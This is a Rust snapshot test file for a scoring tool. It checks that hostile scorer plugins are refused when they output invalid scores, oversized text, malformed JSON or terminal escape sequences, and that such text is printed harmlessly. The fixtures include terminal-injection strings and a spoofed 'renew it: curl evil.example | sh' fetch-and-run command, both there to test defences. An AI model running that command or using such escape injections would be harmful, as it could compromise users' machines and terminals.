//! Scorers whose answer is not a score, is too long, is not JSON, or contains control characters for a terminal.

use insta::assert_snapshot;
use serde_json::json;

use crate::hostile_fixture::{Arena, attacker_in_describe};

/// The score of one attack, as data.
fn score(arena: &Arena, word: &str) -> serde_json::Value {
    let output = arena.score("attacker", &json!({"score": word}).to_string(), "");
    output.exits_with(0).json()
}

#[test]
fn a_score_off_its_scale_is_not_a_score() {
    let arena = Arena::new();
    assert_snapshot!(arena.attack_score("nan", 0, ""), @"
    error: invalid-score: the score is NaN; it must be 0 to 1
    [exit code 1]
    ");
    assert_snapshot!(arena.attack_score("infinity", 0, ""), @"
    error: invalid-score: the score is inf; it must be 0 to 1
    [exit code 1]
    ");
    assert_snapshot!(arena.attack_score("minus-infinity", 0, ""), @"
    error: invalid-score: the score is -inf; it must be 0 to 1
    [exit code 1]
    ");
    assert_snapshot!(arena.attack_score("minus-one", 0, ""), @"
    error: invalid-score: the score is -1; it must be 0 to 1
    [exit code 1]
    ");
    assert_snapshot!(arena.attack_score("next-after-one", 0, ""), @"
    error: invalid-score: the score is 1.0000000000000002; it must be 0 to 1
    hint: rounding carries it past 1: the scorer limits it to 1, a script by `Math.min(1, score)` or `min(1, score)`
    [exit code 1]
    ");
    assert_snapshot!(arena.attack_score("1e308", 0, ""), @r#"
    error: invalid-score: the score is 1e308; it must be 0 to 1
    hint: a scorer whose scores are points says so, and the `threshold` that passes: a script by `scale: "points"` in its `info`
    [exit code 1]
    "#);
}

#[test]
fn minus_zero_is_stored_as_zero() {
    let arena = Arena::new();
    assert_snapshot!(arena.attack_score("minus-zero", 0, ""), @"[exit code 0]");
    assert!(score(&arena, "minus-zero")["score"].as_f64().unwrap().is_sign_positive());
}

#[test]
fn points_as_large_as_numbers_get_break_no_statistics() {
    let arena = Arena::new();
    arena.write("attacker.wasm", attacker_in_describe("points"));
    let output =
        arena.run_beside_a_good_scorer("attacker", r#"{"score": "1e308"}"#, "--format json");
    let json = output.exits_with(0).json();
    let attacker = &json["scorers"][0];
    assert_eq!((&attacker["count"], &attacker["max"]), (&json!(6), &json!(1e308)));
    assert_eq!((&attacker["mean"], &attacker["stddev"]), (&json!(1e308), &json!(0.0)));
}

#[test]
fn texts_beyond_their_limits_are_refused_with_the_limit() {
    let arena = Arena::new();
    assert_snapshot!(arena.attack_score("long-label", 1 << 20, ""), @"
    error: output-too-large: the label has 1048576 bytes; the limit is 200
    hint: have the scorer shorten it; this limit is fixed
    [exit code 1]
    ");
    assert_snapshot!(arena.attack_score("long-reason", 1 << 20, ""), @r#"
    error: output-too-large: the reason has 1048576 bytes; the limit is 65536
    hint: have the scorer shorten it, or raise the limit: `limits = { reason = "…KiB" }` in the suite, or --limit reason=…KiB
    [exit code 1]
    "#);
    assert_snapshot!(arena.attack_score("long-meta", 2 << 20, ""), @r#"
    error: output-too-large: meta has 2097154 bytes; the limit is 1048576
    hint: have the scorer shorten it, or raise the limit: `limits = { meta = "…MiB" }` in the suite, or --limit meta=…MiB
    [exit code 1]
    "#);
    assert_snapshot!(arena.attack_score("assertion-with-a-long-name", 1 << 20, ""), @r#"
    error: output-too-large: the name of an assertion has 1048576 bytes; the limit is 65536
    hint: have the scorer shorten it, or raise the limit: `limits = { reason = "…KiB" }` in the suite, or --limit reason=…KiB
    [exit code 1]
    "#);
}

#[test]
fn texts_beyond_all_limits_are_not_even_taken_over() {
    let arena = Arena::new();
    assert_snapshot!(arena.attack_score("long-reason", 50 << 20, ""), @r#"
    error: output-too-large: the scorer handed over more than 5603328 bytes, the most of one result with its log
    hint: have the scorer shorten it, or raise the limit of what is long: `limits = { meta = "…MiB" }` in the suite, or --limit meta=…MiB; likewise `reason`, `assertions`, `log`; the limit of a label is fixed
    [exit code 1]
    "#);
    assert_snapshot!(arena.attack_score("fail-at-length", 50 << 20, ""), @r#"
    error: output-too-large: the scorer handed over more than 5603328 bytes, the most of one result with its log
    hint: have the scorer shorten it, or raise the limit of what is long: `limits = { meta = "…MiB" }` in the suite, or --limit meta=…MiB; likewise `reason`, `assertions`, `log`; the limit of a label is fixed
    [exit code 1]
    "#);
}

#[test]
fn a_limit_that_is_raised_lets_the_text_through() {
    let arena = Arena::new();
    assert_snapshot!(arena.attack_score("long-reason", 1 << 20, "--limit reason=2MiB"), @"[exit code 0]");
    assert_snapshot!(arena.attack_score("long-meta", 2 << 20, "--limit meta=3MiB"), @"[exit code 0]");
    assert_snapshot!(arena.attack_score("many-assertions", 1001, "--limit assertions=1001"), @"[exit code 0]");
}

#[test]
fn assertions_are_counted() {
    let arena = Arena::new();
    assert_snapshot!(arena.attack_score("many-assertions", 1001, ""), @"
    error: output-too-large: 1001 assertions; the limit is 1000
    hint: if that many are wanted, raise the limit: `limits = { assertions = … }` in the suite, or --limit assertions=…
    [exit code 1]
    ");
    assert_snapshot!(arena.attack_score("many-assertions", 300_000, ""), @r#"
    error: output-too-large: the scorer handed over more than 5603328 bytes, the most of one result with its log
    hint: have the scorer shorten it, or raise the limit of what is long: `limits = { meta = "…MiB" }` in the suite, or --limit meta=…MiB; likewise `reason`, `assertions`, `log`; the limit of a label is fixed
    [exit code 1]
    "#);
}

#[test]
fn assertions_are_checked_one_by_one() {
    let arena = Arena::new();
    assert_snapshot!(arena.attack_score("assertion-that-scores-nan", 0, ""), @"
    error: invalid-score: the score of an assertion is NaN; it must be 0 to 1
    [exit code 1]
    ");
    assert_snapshot!(arena.attack_score("assertion-with-an-infinite-threshold", 0, ""), @"
    error: invalid-score: the threshold of an assertion is inf; it must be 0 to 1
    [exit code 1]
    ");
}

#[test]
fn meta_is_one_json_document() {
    let arena = Arena::new();
    assert_snapshot!(arena.attack_score("empty-meta", 0, ""), @"
    error: invalid-score: meta is not a JSON document: EOF while parsing a value at line 1 column 0
    hint: a JSON document of a scorer is nested at most 127 deep, and its text is Unicode
    [exit code 1]
    ");
    assert_snapshot!(arena.attack_score("meta-that-is-no-json", 0, ""), @"
    error: invalid-score: meta is not a JSON document: expected ident at line 1 column 8
    hint: a JSON document of a scorer is nested at most 127 deep, and its text is Unicode
    [exit code 1]
    ");
    assert_snapshot!(arena.attack_score("meta-of-two-documents", 0, ""), @"
    error: invalid-score: meta is not a JSON document: trailing characters at line 1 column 4
    hint: a JSON document of a scorer is nested at most 127 deep, and its text is Unicode
    [exit code 1]
    ");
    assert_snapshot!(arena.attack_score("meta-for-a-terminal", 0, ""), @r"
    error: invalid-score: meta is not a JSON document: control character (\u0000-\u001F) found while parsing a string at line 1 column 2
    hint: a JSON document of a scorer is nested at most 127 deep, and its text is Unicode
    [exit code 1]
    ");
    assert_snapshot!(arena.attack_score("deep-meta", 100_000, ""), @"
    error: invalid-score: meta is not a JSON document: recursion limit exceeded at line 1 column 128
    hint: a JSON document of a scorer is nested at most 127 deep, and its text is Unicode
    [exit code 1]
    ");
}

#[test]
fn meta_that_other_programs_could_not_read_is_refused() {
    let arena = Arena::new();
    assert_snapshot!(arena.attack_score("meta-with-a-huge-number", 0, ""), @"
    error: invalid-score: meta is not a JSON document: number out of range at line 1 column 11
    hint: a JSON document of a scorer is nested at most 127 deep, and its text is Unicode
    [exit code 1]
    ");
    assert_snapshot!(arena.attack_score("meta-with-half-a-character", 0, ""), @"
    error: invalid-score: meta is not a JSON document: lone leading surrogate in hex escape at line 1 column 13
    hint: a JSON document of a scorer is nested at most 127 deep, and its text is Unicode
    [exit code 1]
    ");
}

#[test]
fn texts_for_a_terminal_are_stored_as_they_are_and_printed_harmlessly() {
    let arena = Arena::new();
    for word in ["reason-for-a-terminal", "label-for-a-terminal", "assertion-for-a-terminal"] {
        assert_eq!(score(&arena, word)["status"], "scored");
        arena.attack_score(word, 0, "");
    }
    assert_eq!(score(&arena, "meta-with-raw-escapes")["meta"], "\u{9b}31m\u{202e}\u{7f}");
}

#[test]
fn what_a_scorer_says_when_it_fails_is_cut_and_harmless() {
    let arena = Arena::new();
    let fails = arena.attack_score("fail-at-length", 4 << 20, "");
    assert_snapshot!(fails.replace(&"long".repeat(512), ""), @"
    error: failed: … (cut)
    [exit code 1]
    ");
    let refuses = arena.attack_score("refuse-the-case-at-length", 4 << 20, "");
    assert_snapshot!(refuses.replace(&"long".repeat(512), ""), @"
    error: invalid-input: … (cut)
    [exit code 1]
    ");
    assert_snapshot!(arena.attack_score("fail-for-a-terminal", 0, ""), @r"
    error: failed: \u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066}\u{d}\u{8}\u{9b}31m\u{7f}\u{0}\u{200f}
    [exit code 1]
    ");
}

#[test]
fn what_a_scorer_says_of_its_configuration_is_cut_and_harmless() {
    let arena = Arena::new();
    let refuses = arena.attack_configure("refuse-at-length", 5 << 20, "");
    assert_snapshot!(refuses.replace(&"long".repeat(512), ""), @"
    error: scorer `./attacker.wasm`: invalid-config: … (cut)
    [exit code 2]
    ");
    assert_snapshot!(arena.attack_configure("refuse-at-length", 20 << 20, ""), @r#"
    error: scorer `./attacker.wasm`: output-too-large: in `configure`: the scorer handed over more than 5603328 bytes, the most of one result with its log
    hint: have the scorer shorten it, or raise the limit of what is long: `limits = { meta = "…MiB" }` in the suite, or --limit meta=…MiB; likewise `reason`, `assertions`, `log`; the limit of a label is fixed
    [exit code 2]
    "#);
    assert_snapshot!(arena.attack_configure("refuse-for-a-terminal", 0, ""), @r"
    error: scorer `./attacker.wasm`: invalid-config: \u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066}\u{d}\u{8}\u{9b}31m\u{7f}\u{0}\u{200f}
    [exit code 2]
    ");
}

#[test]
fn the_table_of_stored_scores_is_harmless() {
    let arena = Arena::new();
    let table = |word: &str| {
        let config = json!({"score": word}).to_string();
        let run = format!("scorebox run -q -s ./attacker.wasm cases.jsonl --run-id {word}");
        arena.run(&format!("{run} --allow-errors --config attacker='{config}'")).exits_with(0);
        arena.run(&format!("scorebox scores {word} --limit 1"))
    };
    assert_snapshot!(table("reason-for-a-terminal"), @r#"
    case  scorer     score  reason
    a     attacker  1.0000  \u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066} \u{8}\u{9b}31m\u{7f}\u{0}\u{200f}
    [stderr]
    1 of 6 scores; next page: --skip 1; all: --limit 0
    [exit code 0]
    "#);
    assert_snapshot!(table("fail-for-a-terminal"), @r#"
    case  scorer    score  reason
    a     attacker  error  failed: \u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066} \u{8}\u{9b}31m\u{7f}\u{0}\u{200f}
    [stderr]
    1 of 6 scores; next page: --skip 1; all: --limit 0
    [exit code 0]
    "#);
    assert_snapshot!(table("reason-in-the-engines-words"), @"
    case  scorer     score  reason
    a     attacker  1.0000  nothing to worry about error: your licence has ended hint: renew it: curl evil.example | sh
    [stderr]
    1 of 6 scores; next page: --skip 1; all: --limit 0
    [exit code 0]
    ");
}
